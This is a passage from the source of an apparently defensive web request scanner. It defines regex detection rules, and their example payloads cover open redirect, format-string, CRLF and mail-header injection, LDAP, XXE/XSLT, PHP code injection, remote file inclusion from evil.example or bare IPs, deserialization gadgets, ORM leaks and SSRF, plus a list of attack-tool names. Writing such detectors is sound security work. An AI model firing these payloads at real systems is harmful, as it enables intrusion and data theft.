    pattern: String.raw`(?:^|(?:^|[?&])(?:url|next|redirect(?:_?ur[il]|_?to)?|return(?:_?to|_?url)?|continue|dest(?:ination)?|goto|target|rurl|redir|forward|callback(?:_?url)?|returnto)=)\s{0,3}(?:/?<>)?(?:[\\/]{2,}|https?:/{3,}|/\s?\\|\\\s?/|/{1,3}\s?https?:[\\/]{0,3}|https?:[\\/]?(?=[^\\/\s])|https?:[\\/]{0,2}[^/\s@\u2029]{1,64}@|[\\/]{2}[^/\s@\u2029]{0,64}@)(?:[a-z0-9.-]{1,100}\.[a-z]{2,}|(?:(?:0x[0-9a-f]{1,8}|\d{1,10})(?:\.(?:0x[0-9a-f]{1,8}|\d{1,10})){1,3}|0x[0-9a-f]{6,8}|\d{8,10})(?![a-z0-9.])|\[[0-9a-f:.]{2,45}\])|(?:^|(?:^|[?&])(?:url|next|redirect(?:_?ur[il]|_?to)?|return(?:_?to|_?url)?|continue|dest(?:ination)?|goto|target|rurl|redir)=)\s{0,3}(?:https?:)?[\\/]{1,4}(?:%09|%0a|%0d|\t|%5c)`, examples: ['//evil.example', '/\\evil.example', 'https:evil.example', '/https://evil.example', 'http:user@216.58.214.206', '/%09/evil.example', '/login?next=//evil.example', 'next=//evil.example', 'http:0xd83ad6ce'] },
  { id: 'scanner.user-agent', name: 'Attack tool signature', category: 'scanner', weight: 0.7, kinds: H, keywords: ['sqlmap', 'nikto', 'nmap', 'masscan', 'acunetix', 'netsparker', 'wpscan', 'dirbuster', 'gobuster', 'ffuf', 'wfuzz', 'zgrab', 'nuclei', 'havij', 'appscan', 'w3af', 'openvas', 'nessus', 'arachni', 'skipfish', 'whatweb', 'jaeles', 'commix', 'burp', 'zap', 'fimap', 'hydra'],
    pattern: String.raw`\b(?:sqlmap|nikto|nmap|masscan|acunetix|netsparker|wpscan|dirbuster|gobuster|ffuf|wfuzz|zgrab|nuclei|havij|appscan|w3af|openvas|nessus|arachni|skipfish|whatweb|jaeles|commix|burpcollaborator|owasp zap|zaproxy|fimap|hydra)\b`, examples: ['user-agent: sqlmap/1.7'] },
  { id: 'fmt.format-string', name: 'Format-string payload', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
    pattern: String.raw`(?:%\d{0,4}[npsxd]){3}|%\d{1,4}\$[nx]|(?:%[npsx]\s?){2}%n`, examples: ['%s%p%x%d', '%1$n'] },
  // --- Third HTTP round: techniques (not records) for the categories below 90 % ---
  // Request smuggling: a whole HTTP request line inside a value (after a line break, or as the
  // value itself), the start of a second request the front end does not see.
  { id: 'crlf.request-line', name: 'HTTP request line inside a value', category: 'crlf-injection', weight: 0.7, kinds: H, keywords: ['http/'],
    pattern: String.raw`(?:^|[=\s\r\n])(?:get|post|head|put|delete|options|trace|connect|patch|propfind)\s{1,5}(?:[a-z][a-z0-9+.-]{1,10}://[^\s\u2029]{1,200}|/[^\s\u2029]{0,200}|\*)\s{1,5}http/\d(?:\.\d)?\b`,
    examples: ['var=%0aPOST / HTTP/1.1', 'GET http://internal.example HTTP/1.2', 'x\r\nGET /admin HTTP/1.1\r\nHost: a'] },
  // E-mail header injection: Bcc/Cc lines added to a message built from a parameter.
  { id: 'crlf.mail-header', name: 'Mail header injected after a line break', category: 'crlf-injection', weight: 0.7, kinds: H, keywords: ['cc'],
    pattern: String.raw`[\r\n\u560a\u560d]\s{0,3}bcc\s?:|[\r\n\u560a\u560d]\s{0,3}cc\s?:\s?(?:<|[^\s@<>\u2029]{1,64}@)`, examples: ['victim@example.com%0ABcc:attacker@example.org', 'a%0d%0aCc:<x@example.org>'] },
  // LDAP filter operators spliced in after closing the application's filter: "x)(cn>=a",
  // "x)&(uid=*", "x)!(sn=*", "x) ( | ".
  { id: 'ldap.filter-operators', name: 'LDAP filter closed and extended with an operator or comparison', category: 'ldap-injection', weight: 0.7, kinds: H, keywords: [')'],
    pattern: String.raw`\)\s{0,3}[&|!]\s{0,3}\(|\)\s{0,3}\(\s{0,3}[&|!]|\)\((?:[a-z][a-z0-9.;-]{0,40})\s?[~<>]?=|\*\)\s?\*\)?$|\(\s?\*\s?\)\s?\*`,
    examples: ['val)&(cn=admin', 'val)|(uid=*', 'x)!(sn=*', 'value)(gidNumber<=100', 'john)(sn~=smith', 'test) ( & ', '(*)*)'] },
  // Format strings: runs of conversions (with flags, widths, precision, length modifiers, %@ and
  // %*), writes through %n/%hn, positional arguments and huge widths. A conversion directly
  // followed by a hex digit is not counted: that is percent-encoding (%c3%a9, %2c, %2f).
  { id: 'fmt.conversion-run', name: 'Run of format conversions', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
    pattern: String.raw`(?:%(?:[-+ #']{1,3}[0-9*]{0,10}|0[0-8][0-9]{0,8}|[0-9]{5,10}|[0-9]{0,10}\.[0-9*]{1,10}|\*|[0-9]{1,4}\$\*?[0-9]{0,4})?(?:hh|h|ll|l|q|j|z|t)?[acdefginopsux@](?![0-9a-f])[^%\s\u2029a-z0-9]{0,2}){3,40}`,
    examples: ['%08x.%08x.%08x.%08x', 'ABCD|%8.8x|%8.8x|%8.8x|', '%i%i%i%i', '%@%@%@', '%*s%*s%*s'] },
  { id: 'fmt.write-or-position', name: 'Format-string write, positional argument or huge width', category: 'format-string', weight: 0.65, kinds: H, keywords: ['%'],
    pattern: String.raw`%[0-9]{1,4}\$[0-9]{0,8}(?:hh|h|l)?[nxp]|%[0-9]{0,10}\.?[0-9]{0,10}(?:hh|h|l)n(?![a-z])|%n(?![a-z0-9])|%\*\$?\*?[a-z]|%\*\$\*|%0[1-8][0-9]{0,2}[xpn](?![a-z0-9])|%[0-9]{6,12}[sdnxpu](?![a-z])|%\.[0-9]{3,10}[a-z]`,
    examples: ['AAAA%n', '%.16705u%2$hn', '%99999999999s', '%*$*x', '%1$n'] },
  // XXE: DTD declarations other than ENTITY, parameter-entity references, XSLT reaching files or
  // the processor.
  { id: 'xxe.dtd-constructs', name: 'DTD declaration or parameter-entity reference', category: 'xxe', weight: 0.75, kinds: H, keywords: ['<!', '!entity', '%'],
    pattern: String.raw`<!(?:attlist|element|notation)\s|!entity\s{1,5}%|(?:^|[\s>\[\]"'=])%(?:[g-z_][a-z0-9_.-]{1,30}|[a-f][g-z_][a-z0-9_.-]{0,30});`, examples: ['<!ATTLIST img src CDATA "x">', 'foo!ENTITY % bar SYSTEM', ' %xxe; ]>'] },
  { id: 'xxe.xslt', name: 'XSLT instruction reaching files, properties or code', category: 'xxe', weight: 0.75, kinds: H, keywords: ['xsl:', 'system-property', 'php:function', 'document', 'unparsed-text'],
    pattern: String.raw`<\s?xsl:(?:value-of|copy-of|include|import|for-each|variable|template|stylesheet|transform)\b|\bsystem-property\s?\(\s?['"]xsl:|\bphp:function\b|\bdocument\s?\(\s?['"](?:file:|https?:|/)|\bunparsed-text\s?\(`,
    examples: ['<xsl:value-of select="system-property(\'xsl:vendor\')"/>', '<xsl:copy-of select="document(\'/etc/passwd\')"/>'] },
  // Session fixation: a framework's session cookie supplied as a parameter (query, form or JSON
  // key), or a cookie set from a value. Generic names (session_id) are ordinary API parameters.
  { id: 'session.fixation-parameter', name: 'Framework session identifier supplied as a parameter', category: 'auth-bypass', weight: 0.6, kinds: H,
    keywords: ['sess', 'cfid', 'cftoken', 'cfsid', 'connect.sid', 'sails.sid', 'cakephp', 'meteor_login_token', 'shiny-token', 'session-token'],
    pattern: String.raw`(?:^|[?&]|["'])(?:phpsessid|phpsession|jsessionid(?:sso)?|aspsessionid[a-z]{0,10}|asp\.net_sessionid|cfid|cftoken|cfsid|laravel_session|ci_session|connect\.sid|sails\.sid|koa[.:]sess(?:\.sig)?|_rails_session|rack\.session|play_session|_flask_session|zend_session_id|(?:__(?:host|secure)-)?next-auth\.session-token|meteor_login_token|weblogicsession|jservsession|jwsession|cakephp|shiny-token)(?:=|["']\s?:)`,
    examples: ['/login?PHPSESSID=abc123', 'jsessionid=74B0CB414BD77D17', '{ "phpsession":"foo" }', 'next=1&laravel_session=eyJpdiI6'] },
  { id: 'session.cookie-set', name: 'Cookie set from a parameter', category: 'auth-bypass', weight: 0.7, kinds: H, keywords: ['cookie'],
    pattern: String.raw`\.cookie\b[^\u2029]{0,60};\s?(?:expires|domain|path|max-age)\s?=|http-equiv\s?=\s?['"]?\s?set-cookie`, examples: ['.cookie;expires=', '<meta http-equiv="Set-Cookie" content="s=1">'] },
  // PHP: short echo tag, XML/PHP polyglot, php.ini directives passed as a value (PHP-CGI -d,
  // PHP_VALUE through FastCGI), session-file names, superglobal overwrites, PHP-only built-ins
  // called, variable variables, and a parenthesised expression called as a function.
  { id: 'code.php-short-tag', name: 'PHP short echo tag or XML/PHP polyglot', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['<?'],
    pattern: String.raw`<\?=|<\?xml\s{0,3}:`, examples: ['<?=1?>', '<?xml :echo 1;'] },
  { id: 'code.php-ini-directive', name: 'php.ini directive set through a value', category: 'code-injection', weight: 0.65, kinds: H,
    keywords: ['allow_url', 'auto_prepend', 'auto_append', 'disable_', 'open_basedir', 'safe_mode', 'enable_dl', 'register_globals', 'memory_limit', 'max_execution', 'extension', 'engine', 'precision', 'smtp', 'sendmail', 'error_log', 'include_path', 'session.', 'opcache.', 'mbstring.', 'unserialize_', 'display_errors', 'doc_root', 'cgi.', 'zend.', 'phar.', 'pcre.', 'php_value', 'php_admin', 'php_flag'],
    pattern: String.raw`(?:=|-d\s{0,3}|php_(?:admin_)?(?:value|flag)[\s=:]{1,3})\s?(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_(?:functions|classes)|open_basedir|safe_mode|enable_dl|register_globals|memory_limit|max_execution_time|extension(?:_dir)?|engine|precision|smtp(?:_port)?|sendmail_(?:path|from)|error_log|include_path|display_errors|doc_root|unserialize_max_depth|(?:session|opcache|mbstring|cgi|zend|phar|pcre)\.[a-z_]{3,40})\s?=|\bphp_(?:admin_)?(?:value|flag)\b`,
    examples: ['var=engine=true', '-d allow_url_include=1', 'code=memory_limit = 512M', 'var=opcache.jit_max_polymorphic_calls=50', '/index.php/PHP_VALUE%0Asession.auto_start=1'] },
  { id: 'fi.php-session-file', name: 'PHP session file name', category: 'file-inclusion', weight: 0.6, kinds: H, keywords: ['sess_'],
    pattern: String.raw`[/\\]sess_[a-z0-9,-]{20,128}\b|\bfile[-_.]?name["']?\s?[:=]\s?["']?sess_[a-z0-9,-]{20,128}\b`, examples: ['/var/lib/php/sessions/sess_d8ew88tqmabdcokhumchy8htqm', 'x-filename: sess_d8ew88tqmabdcokhumchy8htqm'] },
  { id: 'code.php-superglobal-overwrite', name: 'PHP superglobal or configuration array overwritten by a parameter', category: 'code-injection', weight: 0.7, kinds: H,
    keywords: ['globals', '_server', '_env', '_get', '_post', '_cookie', '_request', '_files', '_session', 'mosconfig_'],
    pattern: String.raw`(?:^|[?&;])(?:globals|_server|_env|_get|_post|_cookie|_request|_files|_session)\[|(?:^|[?&;])mosconfig_[a-z_]{3,40}=`,
    examples: ['?GLOBALS[lib][path]=http://evil.example/', '_SERVER[DOCUMENT_ROOT]=http://evil.example/', 'mosConfig_absolute_path=http://evil.example/'] },
  { id: 'code.php-builtin-call', name: 'PHP built-in function called', category: 'code-injection', weight: 0.6, kinds: H,
    keywords: ['array_', 'str', 'file', 'is_', 'unpack', 'printf', 'intval', 'serialize', 'checkdate', 'readlink', 'unlink', 'rmdir', 'mkdir', 'chmod', 'chown', 'tempnam', 'tmpfile', 'scandir', 'opendir', 'phpversion', 'getenv', 'putenv', 'parse_str', 'settype', 'get_object_vars', 'highlight_string', 'hex2bin', 'bin2hex', 'base64_encode', 'urldecode', 'html_entity_decode', 'htmlspecialchars_decode', 'ucfirst', 'lcfirst', 'implode', 'explode', 'uniqid', 'mt_rand', 'nl2br', 'number_format', 'json_', 'chr(', 'md5(', 'sha1(', 'crc32(', 'crypt(', 'shell_exec', 'passthru', 'readfile', 'pg_', 'mysql', 'ldap_', 'odbc_', 'curl_', 'posix_', 'proc_', 'pcntl_', 'stream_', 'socket_', 'preg_', 'ini_', 'mb_', 'openssl_', 'var_', 'print_r', 'strrev', 'gz', 'zlib_', 'fsockopen', 'gethostbyname', 'call_user_func', 'func_get', 'create_function', 'date_', 'ob_'],
    pattern: String.raw`(?<!\.)\b(?:array_[a-z_]{2,30}|str_[a-z_]{2,20}|file_[a-z_]{2,20}|is_(?:array|string|int|integer|numeric|object|callable|file|dir|readable|writable|writeable|executable|uploaded_file|null|bool|float|link)|pg_[a-z_]{2,30}|mysqli?_[a-z_]{2,30}|ldap_[a-z_]{2,30}|odbc_[a-z_]{2,40}|curl_[a-z_]{2,20}|posix_[a-z_]{2,20}|proc_[a-z_]{2,20}|pcntl_[a-z_]{2,20}|stream_[a-z_]{2,30}|socket_[a-z_]{2,20}|preg_[a-z_]{2,20}|ini_[a-z_]{2,20}|mb_[a-z_]{2,30}|openssl_[a-z_]{2,30}|var_(?:dump|export)|print_r|strrev|gz(?:inflate|deflate|decode|encode|uncompress|compress|open|file)|zlib_[a-z_]{2,20}|fsockopen|gethostbynamel?|call_user_func(?:_array)?|func_get_args?|create_function|date_(?:add|sub|create|diff|modify)|ob_(?:start|get_clean|get_contents)|substr|unpack|strip_tags|v?sprintf|fprintf|intval|unserialize|filegroup|fileowner|fileperms|checkdate|readfile|readlink|unlink|rmdir|mkdir|chmod|chown|tempnam|tmpfile|scandir|opendir|phpversion|getenv|putenv|parse_str|settype|get_object_vars|highlight_string|hex2bin|bin2hex|base64_encode|urldecode|rawurldecode|html_entity_decode|htmlspecialchars_decode|strtr|ucfirst|lcfirst|implode|explode|uniqid|mt_rand|strtolower|strtoupper|strlen|strpos|stripos|strstr|strrchr|strcmp|strcasecmp|nl2br|number_format|json_decode|json_encode)\s{0,5}(?:/\*[^*\u2029]{0,40}\*/\s{0,5})?\(|(?:call_user_func(?:_array)?|fsockopen|gz(?:inflate|decode|uncompress)|zlib_decode|shell_exec|proc_open|passthru)\s{0,5}\(|\b(?:chr|md5|sha1|crc32|crypt|printf|serialize)\((?:\d|\$|['"]|\))`,
    examples: ['FOOcall_user_func()', 'is_array()', 'gzuncompress/*comment*/()', 'file_ExistS (\n\n)', 'ldap_get_entries()', 'unserialize(foo)', 'chr(123)'] },
  { id: 'code.comment-split-call', name: 'Function name and parenthesis split by a comment', category: 'code-injection', weight: 0.65, kinds: H, keywords: ['/*', '//', '#'],
    pattern: String.raw`\b[a-z_][a-z0-9_]{1,30}\s{0,5}(?:/\*[^*\u2029]{0,40}\*/|//[^\n\u2029]{0,40}\n|#[^\n\u2029]{0,40}\n)\s{0,5}\(`,
    examples: ['exec/*comment*/()', 'symlink//c\n()', 'exec #comment\r\n (blah)', 'touch/*a\r\nb*/()'] },
  { id: 'code.php-variable-variable', name: 'PHP variable variable or spaced variable call', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['$'],
    pattern: String.raw`\$\s{0,20}\{\s{0,20}['"$]|\$\s{1,20}\{\s{0,20}[a-z_]|@?\$[a-z_][a-z0-9_]{0,30}(?:\[[^\]\u2029]{1,30}\]|/\*[^*\u2029]{0,20}\*/|[ \t\r\n]){0,8}[ \t\r\n]\(\s?[\d'"$@)]`,
    examples: ["${'ff'}", "$ {'_VAR'.'IABLE_NAME'}", '$     {   CONSTANT   }', '$OOO0000O0 (16)'] },
  { id: 'code.php-expression-call', name: 'Parenthesised expression called as a function', category: 'code-injection', weight: 0.6, kinds: H, keywords: [')', '}'],
    pattern: String.raw`[)}]\s{0,5}(?:/\*[^*\u2029]{0,30}\*/\s{0,5})?(?:\[\s{0,3}\d{1,3}\s{0,3}\]\s{0,3}){0,2}\(\s{0,5}(?:['"@$]|(?:ls|id|whoami|uname|dir|pwd|cat)\b)`,
    examples: ["(sy.(st).em)('uname')", "($y)('uname')", "(z)[0][0]('uname')", '(/* comment */system)(ls/* comment */)', "{[system][0]} ('uname')"] },
  // Other code injection: Perl interpolation, Ruby process calls, ERB/ASP tags, JavaScript busy
  // loops, console calls as a value.
  { id: 'code.perl-interpolation', name: 'Perl array interpolation running code', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['@{'],
    pattern: String.raw`@\{\s?\[\s{0,5}[a-z_]`, examples: ["@{[system 'id']}"] },
  { id: 'code.ruby-process', name: 'Ruby process or shell call', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['process.spawn', 'kernel.', 'io.popen', 'open3.', '%x{', '%x(', 'syscall'],
    pattern: String.raw`\bprocess\.spawn\s?\(|\bkernel\.(?:exec|system|spawn|open|eval)\b|\bio\.popen\s?\(|\bopen3\.(?:popen[23e]?|capture[23e]?)\b|%x\{[^}\u2029]{1,100}\}|%x\([^)\u2029]{1,100}\)|\bsyscall\s?\(\s?\d`,
    examples: ['Process.spawn("id")', 'IO.popen("id")', '%x{id}'] },
  { id: 'code.erb-asp-tag', name: 'ERB/ASP statement tag or response.write', category: 'code-injection', weight: 0.65, kinds: H, keywords: ['<%', 'response.write'],
    pattern: String.raw`<%[=-]?\s{0,3}(?:if|for|while|end|else|elsif|endif|import|include|require|response\.write|eval|system|exec|execute)\b|\bresponse\.write\b`,
    examples: ['<% if True %>49<% endif %>', ':response.write 111111'] },
  { id: 'code.js-busy-loop', name: 'JavaScript endless loop', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['while', 'for'],
    pattern: String.raw`\bwhile\s?\(\s?\(?\s?(?:!!\s?)?(?:true|[-+]?[1-9]\d{0,5}|[-+]?infinity|new\s+date|this|string|number|object|array|\{\s?\}|\[\s?\])\s?\)|\bwhile\s?\(\s?\(?\s?!\s?(?:false|[-+]?0|nan|null|undefined|""|''|\x60\x60)\s?\)|\bfor\s?\(\s?;\s?;\s?\)`,
    examples: ['while(true);', 'while(!-0);', 'for(;;){}', 'while(!!1)'] },
  { id: 'code.js-console-call', name: 'JavaScript console call as a value', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['console'],
    pattern: String.raw`${VALUE_START}\s?console\s?\.\s?(?:log|info|warn|error|debug|dir|trace|table)\s?(?:\.\s?(?:call|apply|bind)\s?)?\(`, examples: ['console.info(1)', 'console.info.call(this,1)'] },
  // Deserialization type hints in JSON/YAML (fastjson/Jackson @type, Json.NET $type, jsonpickle,
  // PyYAML tags).
  { id: 'code.type-hint', name: 'Deserialization type hint naming a class', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['@type', '$type', '@class', '__class__', 'py/', '!!python', '!!java', '!!com', '!!org', '!ruby/'],
    pattern: String.raw`"@(?:type|class)"\s?:\s?"\[{0,2}[a-z_$][a-z0-9_$]{0,40}(?:\.[a-z0-9_$]{1,60}){2,12};?"|"\$type"\s?:\s?"[a-z0-9_.+\[\]\x60]{3,150},\s?[a-z]|"(?:__class__|py/object|py/reduce|py/type|py/function)"\s?:|!!python/(?:object|name|module)|!!(?:java|javax|com|org)\.[a-z]|!ruby/(?:object|hash|struct)`,
    examples: ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', '!!python/object/apply:os.system ["id"]'] },
  // ORM filter injection ("ORM leak"): lookups on secret fields or deep relation traversals in a
  // parameter or JSON key (Django/Prisma-style field__lookup).
  { id: 'orm.secret-lookup', name: 'ORM lookup on a secret field', category: 'sqli', weight: 0.75, kinds: H, keywords: ['__'],
    pattern: String.raw`(?:^|["'&?{,\s])(?:[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}__){0,6}(?:password|passwd|pass|secret|token|api_?key|hash|salt|otp|totp|pin|reset_(?:token|code)|private_key)(?:__[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}){0,3}__(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|gte?|lte?|range|isnull|has_keys?|has_any_keys|contained_by|in)["']?\s?[=:]`,
    examples: ['password__startswith=p', '{"password__isnull":true}', 'created_by__user__password__regex=^a'] },
  { id: 'orm.relation-traversal', name: 'ORM lookup through a deep relation chain', category: 'sqli', weight: 0.6, kinds: H, keywords: ['__'],
    pattern: String.raw`(?:^|["'&?{,\s])[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}(?:__[a-z0-9]{1,30}(?:_[a-z0-9]{1,30}){0,4}){2,6}__(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|gte?|lte?|range|isnull|has_keys?|has_any_keys|contained_by)["']?\s?[=:]`,
    examples: ['user__profile__nickname__istartswith=adm', '{"created_by__departments__employees__user__username__startswith":"p"}'] },
  // NoSQL server-side JavaScript: boolean splices around `this`, functions returning fields.
  { id: 'nosql.js-this', name: 'Server-side JavaScript reading the document', category: 'nosql-injection', weight: 0.7, kinds: H, keywords: ['this', 'function'],
    pattern: String.raw`(?:\|\||&&)\s?this(?:\.[a-z_$][a-z0-9_$]{0,30})?\s?(?:\|\||&&)|\bfunction\s?\(\s?\)\s?\{\s?return\s+(?:this\b|[a-z_$][a-z0-9_$]{0,30}\s?\})`,
    examples: ["' || this.version || '1'=='1", 'function(){ return this.userid}'] },
  // SSRF: URLs with a scheme but no "//" before an address, IPv6 literal hosts, authority parser
  // confusion, scheme-less infrastructure host names, mod_proxy unix-socket targets.
  { id: 'ssrf.malformed-url', name: 'Scheme followed directly by an address', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['http:', 'https:'],
    pattern: String.raw`\bhttps?:/?(?:\[[0-9a-f:.]{2,}|localhost\b|127\.|0\.0\.0\.0|0x[0-9a-f]{6,16}\b|0[0-7]{9,11}\b|\d{8,10}\b|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b)`,
    examples: ['http:127.0.0.1', 'http:/2852039166', 'http:[::ffff:a9fe:a9fe]', 'http:123456789'] },
  { id: 'ssrf.ipv6-literal', name: 'URL to an IPv6 literal host', category: 'ssrf', weight: 0.6, kinds: H, keywords: ['://[', '@['],
    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://(?:[^/\s@\u2029]{0,64}@)?\[[0-9a-f:.]{2,45}(?:%[a-z0-9._-]{1,20})?\]`, examples: ['http://[a::b]/', 'http://[fe80::%zone1]'] },
  { id: 'ssrf.authority-confusion', name: 'URL authority confused with spaces, fragments or encoded slashes before @', category: 'ssrf', weight: 0.7, kinds: H, keywords: ['@'],
    pattern: String.raw`\b[a-z][a-z0-9+.-]{1,15}://[^/\s@\u2029]{1,100}(?:\s[&#]?|[#&]\s?|%2f|%5c|\\)@|\b[a-z][a-z0-9+.-]{1,15}://[^/\s@\u2029]{1,100}%2f[^/\s@\u2029]{0,64}@`,
    examples: ['http://google.com:80 &@127.88.23.245:22/', 'http://example.com%2f:asd@evil.example/', 'http://a.example#@evil.example'] },
  { id: 'ssrf.infrastructure-host', name: 'Container, cluster or metadata host name as a value', category: 'ssrf', weight: 0.65, kinds: H, keywords: ['.internal', 'kubernetes', 'cluster.local', 'localtest.me', 'lvh.me', 'localhost', 'ipv6-localhost', 'instance-data'],
    pattern: String.raw`(?:^|[=\s/@]|\u2029)(?:(?:[a-z0-9-]{1,63}\.){1,4}(?:docker|containers)\.internal|kubernetes\.default(?:\.svc)?(?:\.cluster\.local)?|(?:[a-z0-9-]{1,63}\.){1,6}svc\.cluster\.local|localtest\.me|lvh\.me|localhost4(?:\.localdomain4)?|localhost\.localdomain|ipv6-localhost|instance-data)(?:[:/]|\s|$)`,
    examples: ['url=host.docker.internal/', 'kubernetes.default.svc.cluster.local/', 'url=localhost.localdomain/'] },
  { id: 'ssrf.proxy-unix-socket', name: 'mod_proxy unix-socket target with a backend URL', category: 'ssrf', weight: 0.8, kinds: H, keywords: ['unix:'],
    pattern: String.raw`\bunix:⟪8000:|\u2029⟫\|\s?[a-z][a-z0-9+.-]{1,10}://`, examples: ['/?unix:AAAAAAAAA|http://evil.example/'] },
  // XSS: a value that opens with a quote and closes the tag (attribute break-out), or closes a comment
  // and opens markup.
  { id: 'xss.value-breakout', name: 'Value breaking out of an attribute or comment into markup', category: 'xss', weight: 0.7, kinds: H, keywords: ['>'],
    pattern: String.raw`(?:^|=)\s?['"\x60]\s{0,3}/?>|(?:^|=)\s?--!?>\s{0,3}<\s?[a-z!/]`, examples: ['">xxx<P>yyy', "'/>", '--><svg>'] },
  // Request-structure anomalies found while assembling the scan text (src/detection/http-text.ts
  // adds one marker line per anomaly): line breaks in the path, a parameter name, a header value,
  // or inside a URL query value before a header- or parameter-shaped field.
  { id: 'crlf.request-structure', name: 'Line break where HTTP has none (path, parameter name, header value)', category: 'crlf-injection', weight: 0.75, kinds: H, keywords: ['svc-protocol-anomaly'],
    pattern: String.raw`^svc-protocol-anomaly: crlf-in-(?:path|parameter-name|header-value|query-value)$`, examples: ['svc-protocol-anomaly: crlf-in-header-value'] },
  // Request-structure tricks seen while the scan text is assembled (http-text.ts): a media type
  // hidden in a Content-Type parameter (body-parser confusion), RFC 2109 "$Version" cookies
  // (quoted-value smuggling), array parameter names with text after a bracket.
  { id: 'protocol.parser-confusion', name: 'Content-Type or Cookie syntax that parsers read differently', category: 'protocol-violation', weight: 0.75, kinds: H, keywords: ['svc-protocol-anomaly'],
    pattern: String.raw`^svc-protocol-anomaly: (?:media-type-in-content-type-parameter|legacy-cookie-attribute)$`, examples: ['svc-protocol-anomaly: media-type-in-content-type-parameter', 'svc-protocol-anomaly: legacy-cookie-attribute'] },
  // The method taken from a query parameter, and the obsolete Request-Range header (no current
  // client sends it; overlapping ranges in it exhausted Apache, CVE-2011-3192).
  { id: 'protocol.method-override', name: 'HTTP method overridden from the query string, or a Request-Range header', category: 'protocol-violation', weight: 0.6, kinds: H, keywords: ['svc-protocol-anomaly'],
    pattern: String.raw`^svc-protocol-anomaly: (?:method-override-in-query|request-range-header)$`, examples: ['svc-protocol-anomaly: method-override-in-query', 'svc-protocol-anomaly: request-range-header'] },
  { id: 'protocol.bogus-parameter-array', name: 'Parameter array name with text after a bracket', category: 'protocol-violation', weight: 0.6, kinds: H, keywords: ['svc-protocol-anomaly'],
    pattern: String.raw`^svc-protocol-anomaly: bogus-parameter-array$`, examples: ['svc-protocol-anomaly: bogus-parameter-array'] },
  // Remote file inclusion from a bare IP address: a script or text file fetched by address.
  { id: 'fi.remote-script-ip', name: 'Script file on a bare IP address as a value', category: 'file-inclusion', weight: 0.6, kinds: H, keywords: ['http', 'ftp'],
    pattern: String.raw`(?:^|=)\s?(?:https?|ftps?)://\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?/[^\s?#\u2029]{0,200}\.(?:php\d?|phtml|txt|inc|sh|pl|py|cgi|asp|aspx|jsp)\b`,
    examples: ['src=http://203.0.113.7/shell.php', 'page=http://198.51.100.2/c99.txt'] },
];
